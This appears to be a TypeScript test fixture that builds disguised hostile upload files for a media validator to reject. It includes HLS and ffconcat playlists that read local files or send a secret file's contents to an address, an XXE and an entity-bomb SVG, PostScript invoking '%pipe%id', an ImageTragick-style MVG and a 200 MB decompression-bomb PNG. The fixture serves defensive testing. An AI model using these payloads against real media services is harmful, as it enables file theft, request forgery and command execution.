import { deflateSync } from 'node:zlib';
import { type GoodName, type HostileCase, type Kind, type Lab, noise } from './lab.ts';

const playlists: Record<string, (lab: Lab) => string> = {
  'an HLS list of a file': ({ secret }) => `#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\nfile://${secret}\n#EXT-X-ENDLIST\n`,
  'an HLS list of a file beside it': () => '#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\nsecret.mp4\n#EXT-X-ENDLIST\n',
  'an HLS list of an address': ({ address }) => `#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n${address}/a.ts\n#EXT-X-ENDLIST\n`,
  'an HLS list of lists': ({ address }) => `#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n${address}/b.m3u8\n`,
  'an HLS list joining a secret to an address': ({ secret, address }) =>
    `#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\nconcat:${address}/h.m3u8|file://${secret}\n#EXT-X-ENDLIST\n`,
  'a list of ffconcat': ({ secret }) => `ffconcat version 1.0\nfile '${secret}'\n`,
  'a list of ffconcat with options': ({ secret }) => `ffconcat version 1.0\nfile 'subfile,,start,0,end,0,,:${secret}'\n`,
  'a session description': () =>
    'v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n',
  'a DASH manifest': ({ address }) =>
    `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT9S"><Period><AdaptationSet><Representation id="1" bandwidth="1" mimeType="video/mp4"><BaseURL>${address}/d.mp4</BaseURL></Representation></AdaptationSet></Period></MPD>`,
  'a Smooth Streaming manifest': () => '<SmoothStreamingMedia MajorVersion="2" Duration="9"></SmoothStreamingMedia>',
  'an XSPF list': ({ address }) =>
    `<?xml version="1.0"?><playlist version="1"><trackList><track><location>${address}/e</location></track></trackList></playlist>`,
  'a PLS list': ({ address }) => `[playlist]\nFile1=${address}/f\nNumberOfEntries=1\n`,
  'an ASX list': ({ address }) => `<asx version="3.0"><entry><ref href="${address}/g"/></entry></asx>`,
  'a QuickTime reference': ({ address }) => `RTSPtextRTSP://${address}\n`,
  'an AviSynth script': ({ secret }) => `DirectShowSource("${secret}")\n`,
  'a cue sheet': ({ secret }) => `FILE "${secret}" MP3\n  TRACK 01 AUDIO\n    INDEX 01 00:00:00\n`,
  ffmetadata: () => ';FFMETADATA1\ntitle=x\n[CHAPTER]\nTIMEBASE=1/1\nSTART=0\nEND=9\n',
  'a filter graph': ({ secret }) => `movie=${secret}[out0];amovie=${secret}[out1]`,
};

const documents: Record<string, (lab: Lab) => string | Buffer> = {
  'a web page': ({ address }) => `<!doctype html><html><img src="${address}/h"><video src="file:///etc/passwd"></video></html>`,
  'an SVG that shows a file': ({ secret }) =>
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="400" height="400"><image xlink:href="file://${secret}" width="400" height="400"/></svg>`,
  'an SVG that asks an address': ({ address }) =>
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "${address}/i">]><svg xmlns="http://www.w3.org/2000/svg" width="400" height="400"><text>&x;</text></svg>`,
  'an SVG that swells': () =>
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">${'bcdefgh'
      .split('')
      .map((name, index) => `<!ENTITY ${name} "${`&${'abcdefgh'[index]};`.repeat(10)}">`)
      .join('')}]><svg xmlns="http://www.w3.org/2000/svg" width="400" height="400"><text>&h;</text></svg>`,
  'an SVG behind a byte order mark': () =>
    '\ufeff<svg xmlns="http://www.w3.org/2000/svg" width="400" height="400"><rect width="400" height="400"/></svg>',
  PostScript: ({ secret }) => `%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 400 400\n(${secret}) (r) file 1000 string readstring pop show\n`,
  'PostScript behind its binary header': () =>
    Buffer.concat([Buffer.from('c5d0d3c61e00000040000000', 'hex'), Buffer.from('%!PS\n(%pipe%id) (r) file\n')]),
  'a PDF': () => '%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
  'a ZIP': () => Buffer.concat([Buffer.from('504b0304140000000000', 'hex'), noise(500, 3)]),
  'a program': () => Buffer.concat([Buffer.from('7f454c4602010100', 'hex'), noise(500, 4)]),
  'a shell script': () => '#!/bin/sh\ntouch owned\n',
  MVG: ({ address }) => `push graphic-context\nviewbox 0 0 640 480\nfill 'url(${address}/j)'\npop graphic-context\n`,
  'an XCF': () => Buffer.concat([Buffer.from('gimp xcf v011\0', 'latin1'), Buffer.alloc(200)]),
  'a TIFF': () => Buffer.concat([Buffer.from('49492a0008000000', 'hex'), noise(500, 6)]),
  'a BMP': () => Buffer.concat([Buffer.from('BM', 'latin1'), noise(500, 7)]),
  'a MIDI file': () => Buffer.from('MThd\0\0\0\x06\0\x01\0\x01\x01\xe0MTrk\0\0\0\x04\0\xff/\0', 'latin1'),
};

const texts = (all: Record<string, (lab: Lab) => string | Buffer>, ending: string): HostileCase[] =>
  Object.entries(all).map(([name, write], index) => ({
    name: `${name} named .${ending}`,
    fits: [],
    make: (lab) => lab.put(`${ending}-text-${index}.${ending}`, write(lab)),
  }));

/** A list behind the first bytes of something that is taken; demuxers skip an ID3 tag before they guess. */
const behind: HostileCase[] = [
  ['mp4', Buffer.from('\0\0\0\x18ftypisom\0\0\0\0isommp42', 'latin1')],
  ['matroska', Buffer.from('1a45dfa3', 'hex')],
  ['an ID3 tag', Buffer.from('ID3\x03\0\0\0\0\0\0', 'latin1')],
  ['a PNG', Buffer.from('\x89PNG\r\n\x1a\n', 'latin1')],
].map(([name, magic], index) => ({
  name: `an HLS list behind ${name}`,
  fits: [],
  make: (lab: Lab) =>
    lab.put(`behind-${index}.mp4`, Buffer.concat([magic as Buffer, Buffer.from(playlists['an HLS list of a file']?.(lab) ?? '')])),
}));

const joined = (
  name: string,
  from: GoodName,
  fits: readonly Kind[] | 'either',
  join: (bytes: Buffer, lab: Lab) => Buffer,
): HostileCase => ({
  name,
  fits,
  make: async (lab) => lab.put(`joined-${name.replaceAll(/\W/g, '-')}`, join(await lab.good(from), lab)),
});

const renamed = (from: GoodName, as: string, fits: readonly Kind[]): HostileCase => ({
  name: `${from} renamed to ${as}`,
  fits,
  make: async (lab) => lab.put(`as-${from}-${as}`, await lab.good(from)),
});

/** A codec or container that is not among ours. */
const foreign = (name: string, args: readonly string[]): HostileCase => ({
  name: `${name}, which is not taken`,
  fits: [],
  make: (lab) => lab.ffmpeg(`foreign-${name.replaceAll(/[^\w.]/g, '-')}`, args),
});
const picture = ['-f', 'lavfi', '-i', 'testsrc2=s=128x128:r=24:d=1'];
const tone = ['-f', 'lavfi', '-i', 'sine=d=1:r=44100'];

/** Files that are not what they are called. */
export const disguisedCases: readonly HostileCase[] = [
  ...texts(playlists, 'mp4'),
  ...texts(documents, 'png'),
  ...behind,
  joined('a good MP3 whose tag is followed by an HLS list', 'good.mp3', 'either', (bytes, lab) =>
    Buffer.concat([
      Buffer.from('ID3\x03\0\0\0\0\0\0', 'latin1'),
      Buffer.from(playlists['an HLS list of a file']?.(lab) ?? ''),
      bytes.subarray(45),
    ]),
  ),
  joined('a good video with a web page behind it', 'fast.mp4', ['video', 'sound'], (bytes) =>
    Buffer.concat([bytes, Buffer.from('\0\0\0\x2dfree<script>alert(1)</script>............')]),
  ),
  joined('a good GIF with a ZIP behind it', 'good.gif', ['picture'], (bytes) =>
    Buffer.concat([bytes, Buffer.from('504b0304', 'hex'), noise(500, 9)]),
  ),
  joined('a PNG with a text that swells to 200 MB', 'good.png', 'either', (bytes) => {
    const chunk = Buffer.concat([Buffer.from('zTXtComment\0\0', 'latin1'), deflateSync(Buffer.alloc(200_000_000))]);
    const length = Buffer.alloc(4);
    length.writeUInt32BE(chunk.length - 4);
    return Buffer.concat([bytes.subarray(0, 33), length, chunk, Buffer.alloc(4), bytes.subarray(33)]);
  }),
  renamed('good.wav', 'film.mp4', ['sound']),
  renamed('good.mp3', 'film.mov', ['sound']),
  renamed('good.png', 'film.mp4', ['picture']),
  renamed('good.gif', 'film.mp4', ['picture']),
  renamed('good.jpg', 'voice.wav', ['picture']),
  renamed('fast.mp4', 'logo.png', ['video', 'sound']),
  renamed('good.flac', 'logo.jpg', ['sound']),
  foreign('mpeg2.mpg', [...picture, '-c:v', 'mpeg2video']),
  foreign('h264.ts', [...picture, '-c:v', 'libx264', '-preset', 'ultrafast']),
  foreign('wmv.wmv', [...picture, '-c:v', 'wmv2']),
  foreign('flash.flv', [...picture, '-c:v', 'flv']),
  foreign('theora.ogv', [...picture, '-c:v', 'libtheora']),
  foreign('raw.avi', [...picture, '-c:v', 'rawvideo']),
  foreign('ffv1.mkv', [...picture, '-c:v', 'ffv1']),
  foreign('huffyuv.avi', [...picture, '-c:v', 'huffyuv']),
  foreign('png.mov', [...picture, '-c:v', 'png']),
  foreign('dvvideo.mov', ['-f', 'lavfi', '-i', 'testsrc2=s=720x576:r=25:d=0.2', '-c:v', 'dvvideo', '-pix_fmt', 'yuv420p']),
  foreign('bare.h264', [...picture, '-c:v', 'libx264', '-preset', 'ultrafast']),
  foreign('wma.wma', [...tone, '-c:a', 'wmav2']),
  foreign('aiff.aiff', tone),
  foreign('au.au', tone),
  foreign('caf.caf', tone),
  foreign('adpcm.wav', [...tone, '-c:a', 'adpcm_ms']),
  foreign('mp2.mp2', [...tone, '-c:a', 'mp2']),
];
